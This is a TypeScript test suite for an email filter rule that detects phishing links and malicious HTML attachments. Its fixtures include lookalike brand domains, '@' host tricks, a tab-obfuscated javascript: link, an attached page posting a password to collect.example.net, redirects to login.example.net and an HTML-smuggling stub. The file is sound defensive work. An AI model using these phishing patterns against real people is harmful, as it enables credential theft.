import { suspiciousLinkTarget } from '../../../src/engine/rules/suspicious-link-target';
import type { HeaderField } from '../../../src/engine/model';
import { text } from '../../fixtures/content/builders';
import { contentPolicy } from './policy';
import { attachment, from, htmlLink, mail, priorFinding, reasons, runRule, textLink } from './message';

const policy = contentPolicy();
const check = (href: string, extra: Parameters<typeof mail>[0] = {}, findings = [] as ReturnType<typeof priorFinding>[]) =>
  runRule(suspiciousLinkTarget, mail({ links: [textLink(href)], ...extra }), policy, findings);

describe('suspicious-link-target: brands in other people\'s hosts', () => {
  test('a brand as a label or inside a label of another domain', () => {
    expect(reasons(check('https://amazon.vsrsv.example.cn/ap/signin'))[0]).toContain('address contains "amazon" (Amazon) but is not Amazon\'s site');
    expect(check('https://paypal-secure-login.com/')).toBeDefined();
    expect(check('https://securepaypal.example.net/')).toBeDefined();
  });

  test('short brand names only as a whole part of the host', () => {
    expect(reasons(check('https://my-jcb.8388suncity.example.com/'))[0]).toContain('"jcb"');
    expect(check('https://www.jcbfoods.example.com/')).toBeUndefined();
  });

  test('a domain dressed up in a subdomain', () => {
    const hit = check('https://rakuten-card.co.jp.yfcxx.example.com/login');
    expect(reasons(hit)[0]).toContain('address contains "rakuten-card" (楽天カード)');
    expect(reasons(hit)[0]).toContain('address starts like another domain but belongs to example.com');
    expect(hit?.severity).toBe('high'); // brand and disguise on the same link
    expect(reasons(check('https://www.co.jp.olrzicf.example.net/'))[0]).toContain('starts like another domain');
  });

  test('the brand\'s own domains and its infrastructure are fine', () => {
    for (const href of ['https://www.amazon.co.jp/gp/css', 'https://s3.amazonaws.com/bucket/report.pdf', 'https://www.paypal.com/', 'https://login.live.com/']) {
      expect(check(href)).toBeUndefined();
    }
  });

  test('an authenticated sender linking to its own site is not misusing a brand name', () => {
    const headers: HeaderField[] = [{ name: 'Authentication-Results', value: 'mx.example-institute.jp; spf=pass smtp.mailfrom=amazon-travel.example; dkim=pass header.d=amazon-travel.example; dmarc=pass header.from=amazon-travel.example' }];
    const own = { ...from('info@amazon-travel.example'), headers, links: [textLink('https://www.amazon-travel.example/tours')] };
    expect(runRule(suspiciousLinkTarget, mail(own), policy)).toBeUndefined();
    expect(runRule(suspiciousLinkTarget, mail({ ...own, headers: [] }), policy)).toBeDefined();
  });
});

describe('suspicious-link-target: hosting and tricks', () => {
  test('IPFS gateways in path and subdomain form, and other abused publishing services', () => {
    for (const href of [
      'https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/index.html',
      'https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/',
      'https://k44bq2hp-ipfs-dweb-link.translate.goog/',
      'https://login-portal.pages.dev/',
      'https://pub-1234.r2.dev/index.html',
      'https://mh-8-b886e.web.app/',
      'https://detr-7657.southamerica-east1.run.app/',
      'https://reocona3291901.duckdns.org/',
    ]) {
      expect(check(href)).toBeDefined();
    }
  });

  test('"@" in the address hides the real host', () => {
    const hit = check('http://www.microsoft.com@198.51.100.4/login');
    expect(reasons(hit)[0]).toBe('text before "@" in the address is ignored: the link really goes to 198.51.100.4');
  });

  test('javascript: and data: links, also with tabs inside the scheme', () => {
    expect(runRule(suspiciousLinkTarget, mail({ links: [htmlLink('java\tscript:alert(1)', 'View document')] }), policy)).toBeDefined();
    expect(runRule(suspiciousLinkTarget, mail({ links: [htmlLink('data:text/html;base64,PGh0bWw+', 'Open')] }), policy)).toBeDefined();
    expect(runRule(suspiciousLinkTarget, mail({ links: [htmlLink('data:image/png;base64,iVBOR', 'logo')] }), policy)).toBeUndefined();
  });

  test('weak hints (free site builders, abused top-level domains) need corroboration', () => {
    expect(check('https://smallbakery.wixsite.com/menu')).toBeUndefined();
    expect(check('https://conference-2025.xyz/program')).toBeUndefined();
    expect(check('https://conference-2025.xyz/program', {}, [priorFinding('credential-lure', 'wording')])).toBeDefined();
    expect(check('https://verify-account.weebly.com/', {}, [])).toBeUndefined();
    expect(check('https://secure-login.blogspot.example.top/')).toBeUndefined();
  });

  test('our own, trusted and tracking hosts are never counted', () => {
    expect(check('https://amazon-reading-group.example-institute.jp/')).toBeUndefined();
    expect(check('https://paypal.partner-university.ac.jp/')).toBeUndefined();
    expect(check('https://u1.ct.sendgrid.net/ls/click?upn=x')).toBeUndefined();
    // Our name inside someone else's host is not ours.
    expect(check('https://portal.example-institute.jp.r2.dev/')).toBeDefined();
  });

  test('a newsletter linking to its own ordinary pages is clean', () => {
    const links = Array.from({ length: 50 }, (_, index) => htmlLink(`https://www.digest-example.com/articles/${index}`, `Article ${index}`));
    expect(runRule(suspiciousLinkTarget, mail({ ...from('news@digest-example.com'), links }), policy)).toBeUndefined();
  });
});

describe('suspicious-link-target: attached web pages', () => {
  const page = (html: string) => attachment('Statement.html', { contentType: 'text/html', content: text(html) });

  test('a page that posts a password form to a website', () => {
    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><body><form method="post" action="https://collect.example.net/p.php"><input type="password" name="pw"></form>')] }), policy);
    expect(reasons(hit)).toEqual(['attached page sends what you type to collect.example.net; attached page asks for a password']);
    expect(hit?.severity).toBe('high');
  });

  test('a page that redirects', () => {
    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/"></head></html>')] }), policy);
    expect(reasons(hit)).toEqual(['attached page redirects to login.example.net']);
    const scripted = runRule(suspiciousLinkTarget, mail({ attachments: [page('<script>window.location.href = "https://login.example.net/?e=a";</script>')] }), policy);
    expect(reasons(scripted)).toEqual(['attached page redirects to login.example.net']);
  });

  test('HTML smuggling: a large encoded blob decoded by script', () => {
    const blob = 'QUJD'.repeat(2000);
    const hit = runRule(suspiciousLinkTarget, mail({ attachments: [page(`<html><script>var d = atob("${blob}");</script></html>`)] }), policy);
    expect(reasons(hit)).toEqual(['attached page assembles hidden content from encoded text (HTML smuggling)']);
  });

  test('an ordinary HTML attachment (e.g. a saved itinerary) is not reported here', () => {
    expect(runRule(suspiciousLinkTarget, mail({ attachments: [page('<html><body><h1>Itinerary</h1><a href="https://www.example.org">site</a></body></html>')] }), policy)).toBeUndefined();
  });
});
